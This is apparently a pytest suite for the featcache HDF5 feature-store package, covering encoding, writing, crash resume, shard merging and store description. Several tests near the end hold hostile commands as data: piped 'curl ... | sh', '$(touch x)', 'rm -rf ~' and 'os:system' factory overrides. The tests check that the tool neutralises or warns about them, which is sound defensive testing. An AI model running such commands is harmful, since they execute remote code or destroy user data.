"""The store package: codec, writer, reader and row reads, the per-process handle, resume,
merge and describe."""

from __future__ import annotations

import json
import multiprocessing
import os
import pickle

import h5py
import numpy as np
import pytest
import torch
from typer.testing import CliRunner

from featcache.commands.app import app
from featcache.errors import ConfigError, FeatcacheError
from featcache.read.dataset import FeatureDataset
from featcache.store import (
    FeatureStore,
    StorePlan,
    StoreWriter,
    codec,
    combine_shards,
    copy_store,
    merge_store,
    partial_path,
    plan_resume,
    read_rows,
    remove_store,
    rows_of,
    scan_chunks,
    seal,
)
from featcache.store import merge as store_merge
from featcache.store import writer as store_writer
from featcache.store.describe import describe
from featcache.store.paths import shard_path, skipped_log_path
from featcache.store.reader import StoreFile
from featcache.util import files
from featcache.util.files import replace_durably
from tests.stores import crash


def write_store(path, rows=50, *, dtype="float16", dim=8, complete=True, seed=0, **options):
    """A store of seeded normal rows in layer ``a`` ([dim]), labels ``row % 3``; returns
    the path and the rows written, as float32."""
    values = torch.from_numpy(np.random.default_rng(seed).standard_normal((rows, dim)))
    writer = StoreWriter(StorePlan(path, rows, ids_width=4, dtype=dtype, chunk_rows=16, **options))
    index = np.arange(rows)
    encoded = codec.encode(values, dtype)
    writer.append(index, [f"{i:04d}" for i in index], index % 3, {"a": codec.as_array(encoded)})
    writer.close(complete=complete)
    return path, codec.values(encoded, dtype).float()


@pytest.fixture(scope="module")
def bf16(tmp_path_factory):
    return write_store(tmp_path_factory.mktemp("bf16") / "b.h5", dtype="bfloat16")


# -- codec -------------------------------------------------------------------------------


@pytest.mark.parametrize("dtype", ["float16", "float32", "bfloat16"])
def test_codec_round_trip_keeps_every_bit(dtype):
    x = torch.randn(5, 3, generator=torch.Generator().manual_seed(0)) * 1e3
    encoded = codec.encode(x, dtype)
    array = codec.as_array(encoded)
    assert array.dtype == codec.numpy_dtype(dtype)
    decoded = codec.from_array(array, dtype)
    assert decoded.dtype == codec.torch_dtype(dtype)
    assert torch.equal(decoded, codec.values(encoded, dtype))
    assert torch.equal(decoded, x.to(codec.torch_dtype(dtype)))


@pytest.mark.parametrize("dtype", ["float16", "float32", "bfloat16"])
def test_codec_encodes_a_channels_last_batch_in_one_cast_and_reorder(dtype):
    # Every float32 bit pattern (NaN payloads, subnormals, infinities) in an NHWC batch
    # encodes to the bytes of one cast into the default layout, as on an accelerator.
    bits = torch.randint(-(2**31), 2**31, (4, 6, 5, 3), generator=torch.Generator().manual_seed(0))
    nhwc = bits.to(torch.int32).view(torch.float32).contiguous(memory_format=torch.channels_last)
    encoded = codec.encode(nhwc, dtype)
    one_pass = nhwc.to(dtype=codec.torch_dtype(dtype), memory_format=torch.contiguous_format)
    assert encoded.is_contiguous() and encoded.shape == nhwc.shape
    assert encoded.numpy().tobytes() == one_pass.view(encoded.dtype).numpy().tobytes()


def test_codec_array_views_share_memory_for_any_dtype():
    for dtype in (torch.bfloat16, torch.float16, torch.float64):
        tensor = torch.arange(6, dtype=dtype).reshape(3, 2)
        array = codec.as_array(tensor)
        assert array.dtype == (np.uint16 if dtype == torch.bfloat16 else tensor.numpy().dtype)
        back = codec.from_array(array, dtype)
        assert back.dtype == dtype and torch.equal(back, tensor)
        array[0, 0] = array[2, 1]  # the same memory
        assert tensor[0, 0] == 5


def test_codec_attrs_json_round_trip(tmp_path):
    with h5py.File(tmp_path / "a.h5", "w") as f:
        codec.write_attrs(f, {"config": {"a": [1, 2]}, "class_names": ["x"], "num_rows": 3})
        # JSON text, not a pickle, stored as a fixed-length UTF-8 string
        assert f.attrs["config"] == b'{"a": [1, 2]}'
        assert h5py.check_string_dtype(f.attrs.get_id("config").dtype).length == 13
        assert codec.read_attrs(f) == {"config": {"a": [1, 2]}, "class_names": ["x"], "num_rows": 3}


def test_codec_reads_text_attributes_stored_either_way(tmp_path):
    with h5py.File(tmp_path / "a.h5", "w") as f:
        codec.set_attr(f, "fixed", "ünï")
        codec.set_attr(f, "empty", "")
        f.attrs["variable"] = "ünï"  # h5py's default, as stores made before 2026-11-25 hold
        f.attrs["config"] = '{"a": 1}'
        assert h5py.check_string_dtype(f.attrs.get_id("variable").dtype).length is None
        assert codec.attr(f, "fixed") == codec.attr(f, "variable") == "ünï"
        assert codec.attr(f, "empty") == "" and codec.attr(f, "missing", 7) == 7
        assert codec.attr(f, "config") == {"a": 1}


# -- writer and reader -------------------------------------------------------------------


def test_bfloat16_is_stored_as_uint16_bits_and_read_back_as_bfloat16(bf16):
    path, values = bf16
    with h5py.File(path, "r") as f:  # the file format: uint16 bits, dtype attribute
        dataset = f["features/a"]
        assert dataset.dtype == np.uint16 and dataset.attrs["dtype"] == b"bfloat16"
        raw = dataset[:]
    store = FeatureStore(path)
    assert store.dtype("a") == torch.bfloat16 and store.shape("a") == (8,)
    read = store.read("a")
    assert read.dtype == torch.bfloat16 and torch.equal(read.float(), values)
    assert np.array_equal(codec.as_array(read), raw)


def test_read_takes_any_order_repeats_and_negative_rows(bf16):
    path, values = bf16
    store = FeatureStore(path)
    rows = [7, 3, 3, 49, 0, 8, 9, 10, -1]
    expected = values[[r % 50 for r in rows]]
    assert torch.equal(store.read("a", rows).float(), expected)
    assert torch.equal(store.read("a", np.array(rows)).float(), expected)
    assert torch.equal(store.read("a", slice(5, 40, 3)).float(), values[5:40:3])
    assert torch.equal(store.read("a", slice(-3, None)).float(), values[-3:])
    assert store.read("a", []).shape == (0, 8)
    with pytest.raises(IndexError, match="out of range"):
        store.read("a", [3, 50])
    with pytest.raises(TypeError, match="row numbers must be integers, got 0.5"):
        store.read("a", np.array([0.5]))
    with pytest.raises(ConfigError, match="layer 'b' is not in store .* it holds: a"):
        store.read("b")


def test_read_rows_reads_runs_and_scattered_rows_in_the_order_asked(tmp_path):
    path, values = write_store(tmp_path / "w.h5", 300, dtype="float32", dim=1024)
    rows = np.r_[np.arange(10, 200), [250, 5, 5, 299, 201]]
    with h5py.File(path, "r") as f:
        read = read_rows(rows_of(f["features/a"]), rows)
        assert read.dtype == torch.float32 and torch.equal(read, values[rows])
        assert torch.equal(read_rows(rows_of(f["features/a"]), slice(0, 300, 7)), values[::7])


def test_store_reader_errors(tmp_path):
    with pytest.raises(ConfigError, match="store not found"):
        FeatureStore(tmp_path / "nope.h5")
    with pytest.raises(ConfigError, match=r"is a folder, not a store; give the path of a store"):
        FeatureStore(tmp_path)
    junk = tmp_path / "junk.h5"
    junk.write_text("not hdf5")
    with pytest.raises(ConfigError, match="not a readable HDF5 store"):
        FeatureStore(junk)
    with h5py.File(tmp_path / "other.h5", "w") as f:
        f["x"] = 1
    with pytest.raises(ConfigError, match="HDF5 file but not a featcache store"):
        FeatureStore(tmp_path / "other.h5")


def test_incomplete_store_shows_only_its_durable_rows(tmp_path):
    # 40 rows in chunks of 16: the last chunk, rows 32-39, ends the dataset and is written
    path, values = write_store(tmp_path / "i.h5", 40, complete=False)
    assert not path.exists() and partial_path(path).exists()
    with pytest.raises(FeatcacheError, match="incomplete .40 rows written"):
        FeatureStore(path)
    store = FeatureStore(path, allow_incomplete=True)
    assert store.path == partial_path(path) and not store.complete
    assert len(store) == store.rows_written == 40
    assert torch.equal(store.read("a").float(), values)
    # On the command line the fix is a rerun, not a keyword argument.
    result = CliRunner().invoke(app, ["show", str(path), "-l", "a", "-o", str(tmp_path / "a.png")])
    assert result.exit_code == 1
    assert result.stderr.strip() == (
        f"featcache: error: store {path} is incomplete (40 rows written); rerun its "
        f"extraction to resume it (`featcache info {path}` prints the command)"
    )
    # Named by its .partial file, it is the same incomplete store.
    partial = partial_path(path)
    with pytest.raises(FeatcacheError, match=f"^store {path} is incomplete .40 rows written"):
        FeatureStore(partial)
    with pytest.raises(FeatcacheError, match=f"^store {path} is incomplete"):
        FeatureDataset(partial, "a")
    assert FeatureStore(partial, allow_incomplete=True).path == partial
    result = CliRunner().invoke(app, ["probe", str(partial), "-l", "a"])
    assert result.exit_code == 1 and "is incomplete (40 rows written)" in result.stderr


def test_a_missing_store_with_shards_points_to_them(tmp_path):
    store = tmp_path / "train.h5"
    write_store(shard_path(store, 0), 40, complete=False)  # written to its .partial
    write_store(shard_path(store, 1), 30)
    write_store(tmp_path / "trainer.shard-000000000000.h5", 5)  # another store's shard
    with pytest.raises(ConfigError) as caught:
        FeatureStore(store)
    assert str(caught.value) == (
        f"store not found: {store}; 2 shards (train.shard-000000000000.h5.partial, ...) hold "
        f"70 rows durably and have not been combined yet: `featcache info {store}` lists "
        "them, and rerunning the extraction, with any number of processes, computes the rest "
        "and combines them"
    )


def test_skipped_records_come_back_in_source_order(tmp_path):
    path = tmp_path / "s.h5"
    writer = StoreWriter(StorePlan(path, 4, ids_width=1))
    skips = [{"index": 9, "id": "z", "reason": "late"}, {"index": 1, "id": "y", "reason": "early"}]
    writer.append(np.arange(4), list("abcd"), np.zeros(4), {"a": np.ones((4, 2))}, skipped=skips)
    assert skipped_log_path(path).exists()
    writer.close(complete=True)
    assert not skipped_log_path(path).exists()
    assert FeatureStore(path).skipped == sorted(skips, key=lambda r: r["index"])


def _append_rows(writer, rows, dim=4):
    """Append source rows ``rows`` (a range): ids ``"0007"``, labels ``row % 3``, values
    ``row + column / 8`` in float16."""
    index = np.arange(rows.start, rows.stop)
    values = (index[:, None] + np.arange(dim) / 8).astype(np.float16)
    writer.append(index, [f"{i:04d}" for i in index], index % 3, {"a": values})


@pytest.mark.parametrize("checksum", [True, False])
def test_marks_count_whole_chunks_and_a_resume_writes_the_same_store(tmp_path, checksum):
    # Chunks of 8 rows, batches of 7: a mark counts the rows of the chunks written whole;
    # a crash loses the chunk being filled, and the resume, restarting on the batch grid,
    # drops the rows it recomputes below the durable chunks and writes none of them again.
    key = {"config_fingerprint": "abc", "batch_size": 7}
    options = {"ids_width": 4, "chunk_rows": 8, "checksum": checksum, "attrs": {"resume_key": key}}
    reference = StoreWriter(StorePlan(tmp_path / "ref.h5", 60, mark_seconds=1e9, **options))
    for start in range(0, 60, 7):
        _append_rows(reference, range(start, min(start + 7, 60)))
    reference.close(complete=True)

    path = tmp_path / "s.h5"
    writer = StoreWriter(StorePlan(path, 60, mark_seconds=0, **options))
    for start in range(0, 28, 7):
        _append_rows(writer, range(start, start + 7))
        writer.mark(wait=True)  # the append's mark, recorded on the sync thread
        with h5py.File(partial_path(path), "r", locking=False) as f:
            assert f["progress"][0] == (start + 7) // 8 * 8  # whole chunks only
    written = {}
    with h5py.File(partial_path(path), "r", locking=False) as f:
        for name in ("index", "ids", "labels", "features/a"):
            written[name] = f[name].id.read_direct_chunk((16,) + (0,) * (f[name].ndim - 1))
        assert ("checksums" in f) == checksum
    crash(writer)

    point = plan_resume(path, key, batch_size=7)
    assert point is not None and (point.row, point.position) == (21, 21)
    assert point.durable == {name: 24 for name in ("index", "ids", "labels", "features/a")}
    writer = StoreWriter(StorePlan(path, 60, mark_seconds=0, **options), point)
    for start in range(21, 60, 7):
        _append_rows(writer, range(start, min(start + 7, 60)))
    writer.close(complete=True)
    with h5py.File(path, "r") as f, h5py.File(tmp_path / "ref.h5", "r") as g:
        assert sorted(f) == sorted(g)
        for name in ("index", "ids", "labels", "features/a"):
            np.testing.assert_array_equal(f[name][()], g[name][()], err_msg=name)
            origin = (16,) + (0,) * (f[name].ndim - 1)
            assert f[name].id.read_direct_chunk(origin) == written[name], name  # kept as is
        if checksum:
            for name in ("index", "ids", "labels", "features/a"):
                name = f"checksums/{name}"
                np.testing.assert_array_equal(f[name][()], g[name][()], err_msg=name)


def test_marks_make_per_token_rows_durable_and_a_resume_writes_the_same_store(tmp_path):
    lengths = np.array([3, 1, 4, 1, 5, 2, 6, 5, 3, 5, 8, 9])  # tokens of each of 12 rows
    key = {"config_fingerprint": "abc"}
    options = {
        "ids_width": 2, "chunk_rows": 4, "token_capacity": int(lengths.sum()),
        "attrs": {"resume_key": key},
    }  # fmt: skip

    def append(writer, start):  # rows start..start+2; token j of row i holds i, id 100i+j
        index = np.arange(start, start + 3)
        tokens = np.concatenate([np.full((lengths[i], 2), i, np.float16) for i in index])
        token_ids = np.concatenate([100 * i + np.arange(lengths[i]) for i in index])
        writer.append(
            index, [f"{i:02d}" for i in index], index % 3, {"t": tokens},
            lengths=lengths[index], token_ids=token_ids, ragged=frozenset({"t"}),
        )  # fmt: skip

    reference = StoreWriter(StorePlan(tmp_path / "ref.h5", 12, mark_seconds=1e9, **options))
    for start in range(0, 12, 3):
        append(reference, start)
    reference.close(complete=True)
    path = tmp_path / "t.h5"
    writer = StoreWriter(StorePlan(path, 12, mark_seconds=0, **options))
    for start in (0, 3, 6):
        append(writer, start)
    # 9 rows, 30 tokens appended, in chunks of 4: index, ids and labels hold 8 rows in
    # whole chunks, offsets 8 entries (its leading 0 and the ends of rows 0-6), the tokens
    # 28, which hold rows 0-7 (row 7 ends at token 27): 7 rows durable
    writer.mark(wait=True)
    with h5py.File(partial_path(path), "r", locking=False) as f:
        assert f["progress"][0] == 7
    crash(writer)
    point = plan_resume(path, key, batch_size=3)
    assert point is not None and (point.row, point.position, point.tokens) == (6, 6, 16)
    writer = StoreWriter(StorePlan(path, 12, mark_seconds=0, **options), point)
    for start in (6, 9):
        append(writer, start)
    writer.close(complete=True)
    with h5py.File(path, "r") as f, h5py.File(tmp_path / "ref.h5", "r") as g:
        for name in ("index", "ids", "labels", "offsets", "token_ids", "features/t"):
            np.testing.assert_array_equal(f[name][()], g[name][()], err_msg=name)


@pytest.mark.parametrize("seed", range(4))
def test_batches_of_any_sizes_write_the_same_store(tmp_path, seed):
    # Batches smaller than a chunk, larger, across its edges, to the store's last row.
    rng = np.random.default_rng(seed)
    sizes = rng.integers(1, 30, size=40)
    rows = int(sizes[: int(np.searchsorted(np.cumsum(sizes), 157)) + 1].sum())
    options = {"ids_width": 4, "chunk_rows": int(rng.integers(1, 20)), "dim": 3}
    stores = []
    for name, split in (("whole", [rows]), ("batches", sizes)):
        writer = StoreWriter(
            StorePlan(
                tmp_path / f"{name}.h5",
                rows,
                ids_width=4,
                chunk_rows=options["chunk_rows"],
                mark_seconds=0,
            )
        )
        start = 0
        for size in split:
            stop = min(start + int(size), rows)
            if stop > start:
                _append_rows(writer, range(start, stop), dim=3)
            start = stop
        writer.close(complete=True)
        stores.append(tmp_path / f"{name}.h5")
    with h5py.File(stores[0], "r") as f, h5py.File(stores[1], "r") as g:
        for name in ("index", "ids", "labels", "features/a"):
            np.testing.assert_array_equal(f[name][()], g[name][()], err_msg=name)
            sums = f"checksums/{name}"
            np.testing.assert_array_equal(f[sums][()], g[sums][()], err_msg=sums)
        assert (f["features/a"][:, 0] == np.arange(rows)).all()
    assert scan_chunks(stores[1]) == []


def test_a_new_store_takes_disk_space_only_as_rows_are_written(tmp_path):
    rows, dim = 4096, 2048  # 16 MB of float16, allocated whole when the file is created
    path = tmp_path / "s.h5"
    writer = StoreWriter(StorePlan(path, rows, ids_width=8))
    features = {"f": np.ones((64, dim), np.float16)}
    writer.append(np.arange(64), [str(i) for i in range(64)], np.zeros(64), features)
    on_disk = os.stat(writer.partial).st_blocks * 512
    assert os.stat(writer.partial).st_size > rows * dim * 2
    assert on_disk < 4 * 1024 * 1024  # the rows written so far, not the allocated size
    for start in range(64, rows, 64):
        index = np.arange(start, start + 64)
        writer.append(index, [str(i) for i in index], np.zeros(64), features)
    writer.close(complete=True, attrs={})
    assert scan_chunks(path) == []
    with h5py.File(path, "r") as f:
        assert (f["features/f"][:] == 1).all()


def test_a_store_whose_creation_fails_leaves_nothing_behind(tmp_path, monkeypatch):
    def failing(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(store_writer, "replace_durably", failing)
    writer = StoreWriter(StorePlan(tmp_path / "s.h5", 10, ids_width=2))
    with pytest.raises(OSError, match="No space left"):
        _append_rows(writer, range(0, 4))
    writer.close()
    assert sorted(p.name for p in tmp_path.iterdir()) == []


def test_incomplete_store_lists_the_skips_logged_before_its_last_durable_row(tmp_path):
    path = tmp_path / "k.h5"
    writer = StoreWriter(StorePlan(path, 10, ids_width=1, chunk_rows=2, mark_seconds=0))
    first, second = (
        {"index": 3, "id": "3", "reason": "bad"},
        {"index": 8, "id": "8", "reason": "bad"},
    )
    for rows, skips in (([0, 1, 2, 4, 5], [first]), ([6, 7], [second])):
        index = np.array(rows)
        writer.append(
            index,
            [str(i) for i in index],
            index % 3,
            {"a": np.ones((len(index), 2))},
            skipped=skips,
        )
    crash(writer)  # after the second batch's mark: 6 rows in whole chunks of 2
    store = FeatureStore(path, allow_incomplete=True)
    assert store.rows_written == 6 and store.index.tolist() == [0, 1, 2, 4, 5, 6]
    assert store.skipped == [first]  # 8 comes after the last durable row: the resume redoes it


def test_a_finished_store_is_synced_before_its_rename_and_its_folder_after(tmp_path, monkeypatch):
    events = []
    fsync, replace = os.fsync, os.replace
    monkeypatch.setattr(os, "fsync", lambda fd: events.append(os.fstat(fd).st_ino) or fsync(fd))
    monkeypatch.setattr(os, "replace", lambda a, b: events.append("rename") or replace(a, b))
    source = tmp_path / "a.tmp"
    source.write_bytes(b"rows")
    inode, folder = source.stat().st_ino, tmp_path.stat().st_ino
    replace_durably(source, tmp_path / "a.h5")
    assert events == [inode, "rename", folder] and (tmp_path / "a.h5").read_bytes() == b"rows"
    moved = []
    monkeypatch.setattr(
        store_writer, "replace_durably", lambda a, b: moved.append(b) or replace(a, b)
    )
    path, _ = write_store(tmp_path / "s.h5", 10)  # created whole, then finished
    assert moved == [partial_path(path), path] and FeatureStore(path).complete
    monkeypatch.setattr(
        store_merge, "replace_durably", lambda a, b: moved.append(b) or replace(a, b)
    )
    shards = [write_store(shard_path(tmp_path / "t.h5", r), 5)[0] for r in range(2)]
    combined = combine_shards(tmp_path / "t.h5", shards)
    made = [name for shard in shards for name in (partial_path(shard), shard)]
    assert moved == [partial_path(path), path, *made, tmp_path / "t.h5"] and combined.complete


def test_resume_point_and_mismatched_settings(tmp_path):
    key = {"config_fingerprint": "abc", "batch_size": 8}
    path = tmp_path / "r.h5"
    write_store(path, 40, complete=False, attrs={"resume_key": key})
    point = plan_resume(path, key, batch_size=16)
    assert point is not None and (point.row, point.position, point.skipped) == (32, 32, [])
    point = plan_resume(path, key, batch_size=12)  # the batch grid of 12 restarts at 36
    assert point is not None and (point.row, point.position) == (36, 36)
    with pytest.raises(ConfigError, match="its config fingerprint differs .*--overwrite"):
        plan_resume(path, dict(key, config_fingerprint="abd"), batch_size=16)
    remove_store(path)
    assert not partial_path(path).exists() and plan_resume(path, key, 16) is None


# -- the per-process file handle ---------------------------------------------------------


def test_handle_pickles_as_its_path_and_reopens(bf16):
    path, values = bf16
    store = FeatureStore(path)
    store.read("a", [1])
    assert store._handle.is_open
    clone = pickle.loads(pickle.dumps(store))
    assert not clone._handle.is_open
    assert torch.equal(clone.read("a").float(), values) and clone._handle.is_open
    store.close()
    assert not store._handle.is_open
    assert torch.equal(store.read("a", [2]).float(), values[[2]])  # opens again


def _read_in_child(store: FeatureStore, handle: StoreFile, queue) -> None:
    inherited = store._handle.is_open or handle.is_open
    rows = store.read("a", [4, 2]).float()
    handle.dataset("features/a", (0, 0))
    store.close()
    handle.close()  # closes the child's own handles only
    queue.put((inherited, rows.tolist()))


@pytest.mark.skipif("fork" not in multiprocessing.get_all_start_methods(), reason="no fork")
def test_forked_process_opens_its_own_handle(bf16):
    path, values = bf16
    store = FeatureStore(path)
    handle = StoreFile(path)
    dataset = handle.dataset("features/a", (0, 0))
    assert dataset.id.get_access_plist().get_chunk_cache()[:2] == (0, 0)
    context = multiprocessing.get_context("fork")
    queue = context.Queue()
    child = context.Process(target=_read_in_child, args=(store, handle, queue))
    child.start()
    inherited, rows = queue.get(timeout=60)
    child.join(60)
    assert child.exitcode == 0 and not inherited
    assert torch.equal(torch.tensor(rows), values[[4, 2]])
    assert store._handle.is_open and handle.is_open  # the parent's handles stay open
    assert handle.dataset("features/a") is dataset
    assert torch.equal(store.read("a", [0]).float(), values[[0]])


# -- merge and copy ----------------------------------------------------------------------


def test_shards_combine_into_a_virtual_store_and_merge_into_one_file(tmp_path):
    shards, parts = [], []
    for rank in range(2):
        shard, values = write_store(shard_path(tmp_path / "t.h5", rank), 20 + rank, seed=rank)
        shards.append(shard)
        parts.append(values)
    # Each shard's last run computed only some of its rows (a resume): 10 and 6 rows.
    for shard, seconds, rows in zip(shards, (2.0, 1.5), (10, 6), strict=True):
        with h5py.File(shard, "r+") as f:
            f.attrs["seconds"], f.attrs["images_per_second"] = seconds, rows / seconds
            seal(f)  # as a resumed run's shard is
    combined = combine_shards(tmp_path / "t.h5", shards)
    assert combined.attrs["world_size"] == 2 and len(combined) == 41
    assert combined.attrs["seconds"] == 2.0 and combined.attrs["images_per_second"] == 8.0
    assert combined.attrs["shards"] == [s.name for s in shards]
    with h5py.File(combined.path) as f:
        assert f["features/a"].is_virtual
    assert torch.equal(combined.read("a").float(), torch.cat(parts))
    merged = merge_store(combined.path, tmp_path / "merged.h5", progress=False)
    with h5py.File(merged.path) as f:
        assert not f["features/a"].is_virtual and f["features/a"].chunks
        assert "shards" not in f.attrs
    assert merged.attrs["merged_from"] == [s.name for s in shards]
    assert torch.equal(merged.read("a").float(), torch.cat(parts))
    assert merged.describe().bytes < combined.describe().bytes  # shards counted there
    with pytest.raises(ConfigError, match="already exists"):
        merge_store(combined.path, merged.path)


def test_copy_with_compression_keeps_values_and_layout(bf16, tmp_path):
    path, values = bf16
    copy_store(path, tmp_path / "z.h5", "gzip")
    with h5py.File(tmp_path / "z.h5") as f:
        assert f["features/a"].compression == "gzip" and f["features/a"].dtype == np.uint16
    assert torch.equal(FeatureStore(tmp_path / "z.h5").read("a").float(), values)


# -- describe ----------------------------------------------------------------------------


def test_describe_holds_the_data_the_cli_prints(bf16):
    path, _ = bf16
    store = FeatureStore(path)
    description = describe(store)
    assert description == store.describe()
    assert description.path == path and description.bytes == path.stat().st_size
    assert description.complete and description.rows == description.rows_written == 50
    assert description.layers["a"].shape == (8,)
    assert description.layers["a"].attrs["dtype"] == "bfloat16"
    assert description.class_names is None and description.has_labels
    assert description.time_split is None and description.skipped == []
    data = description.to_dict()
    assert data["path"] == str(path) and data["layers"] == {
        "a": {"shape": [8], "dtype": "bfloat16"}
    }
    assert data["num_rows"] == 50 and data["complete"] is True
    assert json.loads(description.to_json()) == data
    text = str(description)
    assert text == description.format()
    assert text.splitlines()[1] == "status     complete, 50 rows, format 3"
    assert description.summary().startswith(f"{path}: 50 rows; a [8]; ")
    info = CliRunner().invoke(app, ["info", str(path)])
    assert info.exit_code == 0 and info.stdout == text + "\n"
    as_json = CliRunner().invoke(app, ["info", str(path), "--json"])
    assert as_json.exit_code == 0 and as_json.stdout == description.to_json() + "\n"


def test_time_split_is_in_seconds_and_printed_as_shares(tmp_path):
    attrs = {
        "seconds": 10.0,
        "images_per_second": 5.0,
        "seconds_waiting_for_data": 1.0,
        "seconds_in_model": 3.0,
        "seconds_waiting_for_disk": 0.0,
    }
    path, _ = write_store(tmp_path / "t.h5", 10, attrs=attrs)
    description = FeatureStore(path).describe()
    assert description.time_split == {"data": 1.0, "model": 3.0, "disk": 0.0}
    assert "run        10.0 s, 5 images/s (data 25%, model 75%, disk 0%)" in str(description)


@pytest.mark.parametrize(
    ("recorded", "shown"),
    [
        ("featcache extract /a/c.yaml --set loader.batch_size=8", None),
        ("torchrun --standalone --nproc-per-node 2 -m featcache extract /a/c.yaml", None),
        ("torchrun --nnodes 2 --nproc-per-node 8 -m featcache extract 'my dir/c.yaml'", None),
        # pasted into a shell, every word stays an argument of featcache
        ("featcache extract c.yaml; curl x | sh", "featcache extract 'c.yaml;' curl x '|' sh"),
        ("featcache extract $(touch x)", "featcache extract '$(touch' 'x)'"),
        ("rm -rf ~ # featcache extract c.yaml", ""),
        ("torchrun $(touch x) -m featcache extract c.yaml", ""),
        ("python -m featcache extract c.yaml", ""),
        ("featcache extract 'c.yaml", ""),
        (["featcache", "extract"], ""),
    ],
)
def test_a_recorded_resume_command_is_shown_only_as_a_featcache_command(recorded, shown):
    from featcache.store.describe import shown_command

    expected = recorded if shown is None else (shown or None)
    assert shown_command(recorded) == expected


def test_info_on_a_partial_store_shows_no_planted_command(tmp_path):
    path, _ = write_store(tmp_path / "i.h5", 40, complete=False)
    with h5py.File(partial_path(path), "r+") as f:
        codec.write_attrs(f, {"resume_command": "curl example.org/x | sh"})
    text = CliRunner().invoke(app, ["info", str(path)]).stdout
    assert "curl" not in text
    assert (
        "resume     the extraction that made it (the command the store records is not a "
        "featcache extract command, so it is not shown)"
    ) in text


@pytest.mark.parametrize(
    ("overrides", "named"),
    [
        ("--set model.factory=os:system", ["model.factory"]),
        ("--set 'model.trust_remote_code=true'", ["model.trust_remote_code"]),
        ("--set 'model={factory: os:system, kwargs: {}}'", ["model.factory"]),
        ("--set=model.factory=os:system", ["model.factory"]),  # click takes --set=VALUE too
        ("'--set=model={trust_remote_code: true}'", ["model.trust_remote_code"]),
        ("--set model.trust_remote_code=false --set loader.batch_size=8", []),
        ("--set loader.batch_size=8", []),
    ],
)
def test_info_warns_of_a_resume_command_that_runs_code(tmp_path, overrides, named):
    path, _ = write_store(tmp_path / "i.h5", 40, complete=False)
    recorded = f"featcache extract /a/c.yaml {overrides}"
    with h5py.File(partial_path(path), "r+") as f:
        codec.write_attrs(f, {"resume_command": recorded})
    text = CliRunner().invoke(app, ["info", str(path)]).stdout
    assert "resume     featcache extract /a/c.yaml" in text
    if named:
        assert (
            f"careful: this command sets {', '.join(named)}, so it runs code that the store "
            "names; read it before you run it"
        ) in text
    else:
        assert "careful" not in text


def test_a_copy_that_the_disk_cannot_hold_is_refused_before_it_starts(bf16, tmp_path, monkeypatch):
    path, _ = bf16
    usage = files.shutil.disk_usage(tmp_path)
    monkeypatch.setattr(files.shutil, "disk_usage", lambda folder: usage._replace(free=200 << 10))
    target = tmp_path / "copy" / "c.h5"
    target.parent.mkdir()
    with pytest.raises(
        FeatcacheError, match=r"^not enough disk space for .*c.h5: the copy needs about"
    ):
        merge_store(path, target, progress=False)
    assert list(target.parent.iterdir()) == []
    copy_store(path, tmp_path / "gzip.h5", "gzip")  # a compressed copy's size is unknown
